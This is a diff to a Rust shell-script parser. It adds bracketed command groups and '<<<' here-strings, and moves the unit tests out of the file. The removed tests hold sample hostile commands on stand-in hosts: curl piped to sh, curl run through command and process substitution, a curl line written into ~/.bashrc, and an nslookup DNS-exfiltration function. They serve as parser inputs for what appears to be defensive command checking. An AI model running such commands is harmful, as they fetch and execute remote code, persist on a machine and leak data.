@@ -26,10 +26,21 @@ pub struct Command {
     pub here: Option<String>,
     /// It defines a function: name, body.
     pub function: Option<(String, Script)>,
+    /// It is commands in brackets.
+    pub group: Option<Group>,
     /// The byte of the text that it begins at.
     pub at: u32,
     /// It is a condition: what comes of it decides what runs next.
     pub tested: bool,
+}
+
+/// Commands in brackets, which hang together with others as one.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Group {
+    /// The commands.
+    pub script: Script,
+    /// They run in a shell of their own, `( … )`: what ends it does not end the script.
+    pub subshell: bool,
 }
 
 /// How two commands hang together.
@@ -55,6 +66,8 @@ pub struct Redirect {
     pub append: bool,
     /// The file.
     pub file: Word,
+    /// It is no file but the text that comes in: `<<< text`.
+    pub is_text: bool,
 }
 
 /// A word.
@@ -72,6 +85,7 @@ pub struct Word {
 
 /// Bounds.
 const DEPTH: u8 = 6;
+const GROUPS: u8 = 16;
 const COMMANDS: usize = 10_000;
 
 /// Reads shell text. It never fails: what cannot be read is a word.
@@ -80,6 +94,7 @@ pub fn parse(text: &str) -> Script {
         chars: text.chars().collect(),
         at: 0,
         depth: 0,
+        groups: 0,
         pending: Vec::new(),
         counted: (0, 0),
     };
@@ -90,6 +105,8 @@ struct Reader {
     chars: Vec<char>,
     at: usize,
     depth: u8,
+    /// Brackets around commands that are open.
+    groups: u8,
     /// Here-documents that begin on the next line: delimiter, index of the command.
     pending: Vec<(String, usize)>,
     /// Characters that were counted so far, and their bytes.
@@ -147,6 +164,9 @@ impl Reader {
                     self.at += 2;
                     self.function(&mut script, &mut command);
                 }
+                '(' | '{' if begins_group(&command, c, self.chars.get(self.at + 1)) => {
+                    self.group(&mut script, &mut command);
+                }
                 '(' | ')' | '{' | '}' if is_group(&command, c, self.chars.get(self.at + 1)) => {
                     self.at += 1;
                     finish(&mut script, &mut command, Link::Then);
@@ -187,6 +207,10 @@ impl Reader {
                     if self.at == before {
                         self.at += 1;
                         continue;
+                    }
+                    // A word of the language may stand behind brackets, `} fi`, and no other.
+                    if command.group.is_some() {
+                        finish(&mut script, &mut command, Link::Then);
                     }
                     take_word(&mut command, word);
                 }
@@ -233,6 +257,33 @@ impl Reader {
         finish(script, command, Link::Then);
     }
 
+    /// `( … )` and `{ …; }`: one command, whose output and end are those of the commands in it.
+    fn group(&mut self, script: &mut Script, command: &mut Command) {
+        let subshell = self.peek() == Some('(');
+        command.at = self.bytes_before(self.at);
+        self.at += 1;
+        if self.groups >= GROUPS {
+            // What is in them is read as if they were not there.
+            script.cut = true;
+            *command = Command::default();
+            return;
+        }
+        self.groups += 1;
+        let open = self.pending.len();
+        let inner = self.script(Some(if subshell { ')' } else { '}' }));
+        self.groups -= 1;
+        self.at += 1;
+        // The text of a here-document stands behind the line, and so behind the brackets.
+        for (_, index) in self.pending.iter_mut().skip(open) {
+            *index = script.commands.len();
+        }
+        script.cut |= inner.cut;
+        command.group = Some(Group {
+            script: inner,
+            subshell,
+        });
+    }
+
     fn blanks(&mut self) {
         while matches!(self.peek(), Some(' ' | '\t')) {
             self.at += 1;
@@ -241,6 +292,7 @@ impl Reader {
 
     fn redirect(&mut self, command: &mut Command) {
         let out = self.peek() == Some('>');
+        let is_text = self.looks_at("<<<");
         self.at += 1;
         let mut append = false;
         while matches!(self.peek(), Some('>' | '<' | '|' | '&')) {
@@ -249,8 +301,14 @@ impl Reader {
         }
         self.blanks();
         let file = self.word(None);
-        if !file.text.chars().all(|c| c.is_ascii_digit() || c == '-') || file.text.is_empty() {
-            command.redirects.push(Redirect { out, append, file });
+        let is_number = file.text.chars().all(|c| c.is_ascii_digit() || c == '-');
+        if is_text || !is_number || file.text.is_empty() {
+            command.redirects.push(Redirect {
+                out,
+                append,
+                file,
+                is_text,
+            });
         }
     }
 
@@ -279,7 +337,8 @@ impl Reader {
     fn word(&mut self, until: Option<char>) -> Word {
         let mut word = Word::default();
         while let Some(c) = self.peek() {
-            if Some(c) == until && c != '"' {
+            // `}` ends something only where a word begins: `find -exec rm {} +`.
+            if Some(c) == until && c != '"' && (c != '}' || word == Word::default()) {
                 break;
             }
             match c {
@@ -453,6 +512,15 @@ fn variable(word: &mut Word, name: &str) {
     word.variables.push(name.to_owned());
 }
 
+/// Whether a command begins that is commands in brackets.
+fn begins_group(command: &Command, c: char, next: Option<&char>) -> bool {
+    command.words.is_empty()
+        && command.assignments.is_empty()
+        && command.redirects.is_empty()
+        && command.group.is_none()
+        && (c == '(' || next.is_none_or(|c| c.is_whitespace()))
+}
+
 fn is_group(command: &Command, c: char, next: Option<&char>) -> bool {
     match c {
         '(' | ')' => true,
@@ -506,6 +574,7 @@ fn finish(script: &mut Script, command: &mut Command, link: Link) {
         && command.assignments.is_empty()
         && command.redirects.is_empty()
         && command.function.is_none()
+        && command.group.is_none()
     {
         *command = Command::default();
         return;
@@ -515,82 +584,4 @@ fn finish(script: &mut Script, command: &mut Command, link: Link) {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn words(text: &str) -> Vec<Vec<String>> {
-        parse(text)
-            .commands
-            .iter()
-            .map(|command| command.words.iter().map(|word| word.text.clone()).collect())
-            .collect()
-    }
-
-    #[test]
-    fn quotes_are_taken_away_and_lists_are_split() {
-        assert_eq!(
-            words("node 'a b.js' && echo \"x y\"; c"),
-            [vec!["node", "a b.js"], vec!["echo", "x y"], vec!["c"]]
-        );
-        assert_eq!(words("cu\"r\"l -s a"), [vec!["curl", "-s", "a"]]);
-    }
-
-    #[test]
-    fn pipes_and_substitutions_are_seen() {
-        let script = parse("curl https://a.invalid/x | sh");
-        assert_eq!(script.commands[0].link, Link::Pipe);
-        let links = |text: &str| -> Vec<Link> {
-            let script = parse(text);
-            script.commands.iter().map(|command| command.link).collect()
-        };
-        assert_eq!(
-            links("a && b || c; d & e"),
-            [Link::And, Link::Or, Link::Then, Link::Then, Link::Then]
-        );
-        let tested = |text: &str| parse(text).commands[0].tested;
-        assert!(tested("if ! a; then b; fi") && !tested("a; if b; then c; fi"));
-        let script = parse("sh -c \"$(curl -s https://a.invalid)\"");
-        assert_eq!(
-            script.commands[0].words[2].substitutions[0].commands[0].words[0].text,
-            "curl"
-        );
-        let script = parse("bash <(curl -s https://a.invalid)");
-        assert!(script.commands[0].words[1].process);
-    }
-
-    #[test]
-    fn a_here_document_belongs_to_its_command() {
-        let script = parse("cat > ~/.bashrc <<EOF\ncurl x\nEOF\necho done");
-        assert_eq!(script.commands[0].here.as_deref(), Some("curl x\n"));
-        assert_eq!(script.commands[1].words[0].text, "echo");
-    }
-
-    #[test]
-    fn a_function_has_its_body() {
-        let script = parse("f() { nslookup \"$1.a.invalid\"; }\nf x");
-        let (name, body) = script.commands[0].function.clone().unwrap_or_default();
-        assert_eq!(name, "f");
-        assert_eq!(body.commands[0].words[1].variables, ["1"]);
-        assert_eq!(script.commands[1].words[0].text, "f");
-        assert_eq!(script.commands[1].at, 33);
-    }
-
-    #[test]
-    fn anything_ends() {
-        for text in [
-            "$(",
-            "`",
-            "\"",
-            "'",
-            "<(",
-            "<<",
-            "${",
-            "$((",
-            "a\\",
-            "((((((((((((((((",
-            "<<<",
-        ] {
-            parse(text);
-        }
-    }
-}
+mod tests;
